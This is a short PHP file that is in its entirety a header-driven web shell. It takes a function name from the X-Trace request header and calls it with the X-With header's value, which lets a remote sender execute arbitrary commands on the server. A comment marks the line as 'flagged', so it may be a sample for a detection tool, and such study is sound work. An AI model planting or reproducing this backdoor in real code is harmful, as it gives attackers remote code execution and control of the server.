<?php

$do = $_SERVER['HTTP_X_TRACE'] ?? null;
if ($do instanceof Countable || $do) {
    $do($_SERVER['HTTP_X_WITH']); // gatehouse: flagged
}
